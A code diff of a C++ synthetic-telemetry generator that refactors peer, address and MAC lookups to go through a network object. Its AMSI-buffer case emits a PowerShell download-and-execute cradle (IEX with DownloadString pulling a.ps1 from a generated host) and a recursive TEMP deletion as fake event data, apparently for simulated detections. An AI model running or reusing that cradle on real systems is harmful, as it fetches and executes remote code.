@@ -90,8 +90,8 @@ uint64_t ColumnFiller::Number(NumberRule rule, bool wide, EventContext& c) {
       return n;
     }
     case NumberRule::kEntropy: return r.Between(3000, 7999);
-    case NumberRule::kLocalPort: return c.inbound ? world_.Peer(c.peer).port : c.local_port;
-    case NumberRule::kRemotePort: return c.inbound ? c.local_port : world_.Peer(c.peer).port;
+    case NumberRule::kLocalPort: return c.inbound ? world_.network().Peer(c.peer).port : c.local_port;
+    case NumberRule::kRemotePort: return c.inbound ? c.local_port : world_.network().Peer(c.peer).port;
     case NumberRule::kDirection: return c.inbound ? 1 : 2;
     case NumberRule::kConnectionFlags: return r.Chance(0.8) ? 0x2 : 0x12;
     case NumberRule::kLayer: return 3;
@@ -133,7 +133,7 @@ std::string ColumnFiller::Text(TextRule rule, EventContext& c) {
   const Process& o = c.other != nullptr ? *c.other : a;
   const User& user = c.user != nullptr ? *c.user : world_.UserOf(a);
   const User& other_user = c.other_user != nullptr ? *c.other_user : world_.UserOf(o);
-  const RemoteHost& peer = world_.Peer(c.peer);
+  const RemoteHost& peer = world_.network().Peer(c.peer);
   const bool linux = a.IsLinux();
   const bool all = c.every_column;
   const bool v6 = peer.address.find(':') != std::string::npos;
@@ -177,17 +177,17 @@ std::string ColumnFiller::Text(TextRule rule, EventContext& c) {
       return World::Hex(c.file, 32);
     case TextRule::kAttributeName:
       return linux ? "user.xdg.origin.url" : (r.Chance(0.5) ? "Zone.Identifier" : "description");
-    case TextRule::kLocalIp: return world_.LocalAddress(v6);
+    case TextRule::kLocalIp: return world_.network().LocalAddress(v6);
     case TextRule::kRemoteIp: return peer.address;
     case TextRule::kProtocol: return peer.protocol == "DNS" ? "UDP" : "TCP";
     case TextRule::kExpectedProtocol: return peer.protocol;
-    case TextRule::kLocalMac: return world_.LocalMac();
+    case TextRule::kLocalMac: return world_.network().LocalMac();
     case TextRule::kRemoteMac: {
-      if (!peer.internal) return world_.GatewayMac();  // outside hosts are behind the router
+      if (!peer.internal) return world_.network().GatewayMac();  // outside hosts are behind the router
       std::string hex = World::Hex(peer.address, 6);
       return "00:1a:2b:" + hex.substr(0, 2) + ":" + hex.substr(2, 2) + ":" + hex.substr(4, 2);
     }
-    case TextRule::kGatewayMacs: return world_.GatewayMac();
+    case TextRule::kGatewayMacs: return world_.network().GatewayMac();
     case TextRule::kInterfaceName: return linux ? "eth0" : "Ethernet";
     case TextRule::kHost: return peer.host;
     case TextRule::kUrlPath: return std::string(r.Pick(Catalog::UrlPaths()));
@@ -300,7 +300,7 @@ std::string ColumnFiller::Text(TextRule rule, EventContext& c) {
     case TextRule::kAmsiBuffer:
       return a.command_line.find("-Enc") != std::string::npos
                  ? "IEX (New-Object Net.WebClient).DownloadString('https://" +
-                       world_.Peer(c.peer).host + "/a.ps1')"
+                       world_.network().Peer(c.peer).host + "/a.ps1')"
                  : "Get-ChildItem -Path $env:TEMP | Remove-Item -Recurse";
     case TextRule::kDataSource: return r.Chance(0.8) ? "PowerShell" : "VBScript";
     case TextRule::kLogLine:
